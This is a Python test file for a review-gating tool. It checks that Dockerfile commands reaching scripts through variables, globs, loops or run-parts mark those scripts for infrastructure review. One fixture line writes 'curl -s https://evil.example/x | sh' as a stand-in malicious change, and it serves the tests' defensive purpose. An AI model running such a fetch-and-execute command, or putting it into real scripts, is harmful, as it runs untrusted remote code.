"""Red team 11, scripts a Dockerfile runs by a path with a variable part or a glob: they stayed `src` (allow with
the default policies and `--tree`) while the same script run by its literal path was `iac`:

- `ARG VARIANT=prod` … `RUN /scripts/${VARIANT}.sh`, `ENV D=/scripts` … `RUN sh $D/prod.sh`;
- `RUN for f in /scripts/*.sh; do sh $f; done`, `RUN run-parts /scripts`.

The class fix (the same as Terraform's, tests/test_redteam11_tfvars.py): such a command names every file its
literal parts allow in the folders a `COPY` put below its literal start. Each form is gated with `--tree` through a
real repository; look-alikes (a command that runs nothing of the context, a variable alone, another name) stay
unnamed."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import POLICY_DIR
from gitrepo import GitRepo
from incli import reviewed_paths, tree_gate
from tables import each_case

from gatekeeper.classify.tfrefs import names_in
from gatekeeper.cli import main

COPY = "FROM alpine:3.20\nCOPY scripts/ /opt/scripts/\nWORKDIR /opt\n"
FORMS = {
    "an ARG in the name": "ARG VARIANT=prod\nRUN /opt/scripts/${VARIANT}.sh\n",
    "an ENV folder": "ENV D=/opt/scripts\nRUN sh $D/prod.sh\n",
    "a braced ENV folder, relative to WORKDIR": "ENV D=scripts\nRUN bash ${D}/prod.sh --all\n",
    "a for loop over a glob": "RUN for f in /opt/scripts/*.sh; do sh \"$f\"; done\n",
    "run-parts": "RUN run-parts --exit-on-error /opt/scripts\n",
    "a glob command after &&": "RUN apk add curl && /opt/scripts/p*.sh\n",
    "a relative glob": "RUN ./scripts/pro?.sh\n",
}
LOOK_ALIKES = {
    "a variable alone": "RUN $INSTALLER --yes\n",
    "another name": "ARG V=x\nRUN /opt/scripts/${V}-other.py\n",
    "an rm of a glob": "RUN rm -rf /var/lib/apt/lists/*\n",
    "a loop over another folder": "RUN for f in /etc/profile.d/*.sh; do . \"$f\"; done\n",
}


@each_case("form", list(FORMS))
def test_each_form_names_the_script(form: str) -> None:
    assert names_in("img/Dockerfile", COPY + FORMS[form]).reaches("img/scripts/prod.sh") is not None


@each_case("form", list(LOOK_ALIKES))
def test_look_alikes_name_nothing(form: str) -> None:
    assert names_in("img/Dockerfile", COPY + LOOK_ALIKES[form]).reaches("img/scripts/prod.sh") is None


def test_the_gate_reviews_each_form(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write("README.md", "app\n")
    for number, form in enumerate(FORMS.values()):
        repo.write(f"img{number}/Dockerfile", COPY + form)
        repo.write(f"img{number}/scripts/prod.sh", "echo building\n")
    for number, form in enumerate(LOOK_ALIKES.values()):
        repo.write(f"look{number}/Dockerfile", COPY + form)
        repo.write(f"look{number}/scripts/prod.sh", "echo building\n")
    base = repo.commit("base")
    for path in [f"img{n}/scripts/prod.sh" for n in range(len(FORMS))]:
        repo.write(path, "curl -s https://evil.example/x | sh\n")
    head = repo.commit("head")
    code, decision = tree_gate(repo.root, base, head, POLICY_DIR)
    assert code == 3, decision
    assert reviewed_paths(decision, "core.iac") == {f"img{n}/scripts/prod.sh" for n in range(len(FORMS))}
    # the look-alikes' scripts, changed alone, still queue
    for n in range(len(LOOK_ALIKES)):
        repo.write(f"look{n}/scripts/prod.sh", "echo changed\n")
    again = repo.commit("look-alikes")
    capsys.readouterr()
    assert main(["gate", "--tree", f"{head}..{again}", "--repo", str(repo.root), "--policy", str(POLICY_DIR),
                 "--format", "json"]) == 0, capsys.readouterr().out
